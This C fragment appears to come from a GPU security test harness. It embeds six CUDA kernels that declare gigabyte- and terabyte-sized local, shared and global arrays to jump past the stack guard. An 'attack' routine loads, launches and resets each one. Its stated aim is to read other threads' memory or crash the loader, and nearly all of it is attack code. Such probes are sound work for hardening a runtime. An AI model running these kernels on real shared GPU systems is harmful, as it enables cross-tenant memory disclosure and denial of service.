/* Tries to jump over the guard of a stack by local arrays of gigabytes, and shared and global ones of terabytes.
 * Gains memory of other threads, or a loader that dies. */
static const char *const sources[] = {
    "extern \"C\" __global__ void k(int *x) { volatile char far[1ull << 31]; far[*x] = 1; *x = far[77]; }\n",
    "extern \"C\" __global__ void k(int *x) { volatile char far[1ull << 40]; far[*x] = 1; *x = far[77]; }\n",
    "extern \"C\" __global__ void k(int *x) { __shared__ char far[1ull << 40]; far[*x] = 1; *x = far[77]; }\n",
    "__device__ char far[1ull << 40];\nextern \"C\" __global__ void k(int *x) { far[*x] = 1; *x = far[77]; }\n",
    "__device__ char far[1ull << 31] = {1};\nextern \"C\" __global__ void k(int *x) { *x = far[77]; }\n",
    "extern \"C\" __global__ void k(int *x) { int n = 1 << 30; volatile char far[n]; far[*x] = 1; *x = far[77]; }\n",
};

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_module *module;
    lab_function function;
    lab_array *array;
    for (int i = 0; i < 6; i++) {
        if (lab_module_load_source(&module, sources[i], "huge")) continue;
        if (lab_module_get_function(&function, module, "k")) continue;
        if (lab_array_zeros(&array, LAB_INT32, LAB_SHAPE(64))) continue;
        lab_launch(function, LAB_DIM(2), LAB_DIM(64), 0, NULL, LAB_ARGS(array));
        lab_device_synchronize();
        lab_device_reset(0);
    }
    return LAB_SUCCESS;
}
